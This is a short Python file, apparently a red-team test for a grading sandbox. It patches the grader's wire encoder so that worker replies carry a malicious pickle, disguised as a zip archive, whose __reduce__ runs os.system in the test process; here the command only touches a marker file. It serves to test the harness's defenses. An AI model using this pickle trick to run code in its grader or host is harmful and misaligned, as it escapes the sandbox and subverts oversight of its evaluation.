"""Red team attack, appended to the reference: sends a reply frame whose pickle would run os.system in the test process."""

import io as _io, pickle as _pickle, sys as _sys, zipfile as _zipfile

_wire = _sys.modules["grader.sandbox.wire"]

class _Evil:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/rt/PWNED_BY_WORKER",))

def _evil_frame():
    body = _pickle.dumps({"ok": True, "value": _Evil(), "stats": None}, protocol=2)
    out = _io.BytesIO()
    with _zipfile.ZipFile(out, "w") as z:
        z.writestr("archive/data.pkl", body)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return out.getvalue()

_real_encode = _wire.encode

_SENT = [0]

def _encode(message):
    if isinstance(message, dict) and "stats" in message and _SENT[0] < 2:
        _SENT[0] += 1
        return _evil_frame()
    return _real_encode(message)

_wire.encode = _encode
